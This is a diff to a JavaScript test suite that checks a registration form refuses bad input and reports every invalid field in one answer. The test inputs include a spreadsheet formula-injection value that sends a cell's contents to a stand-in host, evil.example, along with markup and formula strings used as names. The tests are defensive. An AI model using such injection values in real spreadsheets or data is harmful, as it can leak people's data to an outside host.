@@ -328,6 +328,26 @@ describe("registration through the invite", () => {
     }
   });
 
+  test("every bad field is named in one answer, the checks a pattern cannot make (a real past day, a state that exists, a name) with the rest", async () => {
+    const res = await save({
+      firstName: "=1+1",
+      lastName: "<b>x</b>",
+      dateOfBirth: "1990-02-30",
+      state: "ZZ",
+      ssn: "12a4",
+      acceptTerms: false,
+    });
+    expect(res.status).toBe(400);
+    expect((await res.json()).errors).toEqual({
+      firstName: "First name can hold only letters, spaces, hyphens, apostrophes and periods",
+      lastName: "Last name can hold only letters, spaces, hyphens, apostrophes and periods",
+      dateOfBirth: messages.dateOfBirth,
+      state: messages.state,
+      ssn: messages.ssn,
+      acceptTerms: messages.acceptTerms,
+    });
+  });
+
   test("a name that is no name (a formula, a link, markup) is refused: it would reach the employer's email under our name", async () => {
     const res = await save({ firstName: '=HYPERLINK("http://evil.example/?x="&A2,"Click")', lastName: "<b>Kim</b>" });
     expect(res.status).toBe(400);
